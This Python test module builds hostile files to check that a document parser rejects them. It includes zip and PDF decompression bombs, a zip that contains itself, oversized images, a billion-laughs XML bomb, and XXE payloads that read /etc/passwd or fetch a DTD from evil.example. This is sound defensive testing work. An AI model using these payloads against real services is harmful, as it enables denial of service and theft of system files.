"""Hostile files that swell when they are opened."""

from __future__ import annotations

import struct
import zlib

from tests.hostile.honest import docx, packed, pdf, png_of_size
from tests.hostile.making import hostile
from tests.hostile.office_files import holds_itself, overlapping


def bombs():
    """Files that swell when they are opened."""
    yield hostile("zip bomb", "a.docx", zip_bomb, "unpacks_too_large")
    yield hostile("zip bomb in pieces", "a.docx", zip_bomb_in_pieces, "unpacks_too_large")
    yield hostile(
        "zip bomb with lying sizes",
        "a.docx",
        lie_about_sizes,
        "unpacks_too_large",
        "file_damaged",
    )
    crowd = {f"word/p{n}.xml": "<a/>" for n in range(3100)}
    yield hostile("thousands of parts", "a.docx", docx(parts=crowd), "too_many_parts")
    nested = {"word/media/inner.zip": packed({"inner.zip": packed({"a": "a"})})}
    yield hostile("zip in zip", "a.docx", docx(parts=nested), "archive_inside")
    yield hostile("overlapping parts", "a.docx", overlapping(), "parts_overlap", "file_damaged")
    yield hostile(
        "a zip that holds itself",
        "a.docx",
        holds_itself(),
        "parts_overlap",
        "archive_inside",
        "part_name",
        "file_damaged",
    )
    yield hostile("huge picture", "a.png", png_of_size(100_000, 100_000), "picture_too_large")
    yield hostile("long thin picture", "a.png", png_of_size(30_000, 10), "picture_too_large")
    yield hostile("PDF bomb", "a.pdf", pdf_bomb, "unpacks_too_large")


def xml_bombs():
    """XML that reads, fetches or swells."""
    laughs = "".join(
        f'<!ENTITY l{n} "{("&l" + str(n - 1) + ";") * 10 if n else "ha"}">' for n in range(10)
    )
    bomb = f'<?xml version="1.0"?><!DOCTYPE d [{laughs}]><d>&l9;</d>'
    yield hostile("XML bomb", "a.docx", docx(parts={"word/document.xml": bomb}), "xml_entities")
    outside = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'
    yield hostile(
        "XML reads a file", "a.docx", docx(parts={"word/document.xml": outside}), "xml_entities"
    )
    remote = '<!DOCTYPE d SYSTEM "http://evil.example/d.dtd"><d/>'
    yield hostile(
        "XML fetches its type", "a.docx", docx(parts={"word/styles.xml": remote}), "xml_entities"
    )
    utf16 = ('<?xml version="1.0" encoding="utf-16"?>' + outside).encode("utf-16")
    yield hostile(
        "XML reads a file, in UTF-16",
        "a.docx",
        docx(parts={"word/document.xml": utf16}),
        "xml_entities",
    )
    in_rels = '<!DOCTYPE d [<!ENTITY x "y">]><d/>'
    yield hostile(
        "entities in relationships", "a.docx", docx(parts={"_rels/.rels": in_rels}), "xml_entities"
    )
    deep = "<a>" * 2000 + "</a>" * 2000
    yield hostile(
        "XML without a bottom", "a.docx", docx(parts={"word/document.xml": deep}), "xml_too_deep"
    )


def zip_bomb():
    return docx(parts={"word/media/image1.png": b"\0" * 60_000_000})


def zip_bomb_in_pieces():
    return docx(parts={f"word/media/i{n}.png": b"\0" * 4_000_000 for n in range(8)})


def pdf_bomb():
    """A little more than the limit, packed to a thousandth."""
    packer, block = zlib.compressobj(9), b"\0" * 10_000_000
    swollen = b"".join(packer.compress(block) for _ in range(101)) + packer.flush()
    return pdf(streams=[("/Filter /FlateDecode", swollen)])


def lie_about_sizes():
    """Claim in the table of contents that the big part is small."""
    true, small = struct.pack("<I", 60_000_000), struct.pack("<I", 1000)
    return zip_bomb().replace(true, small)
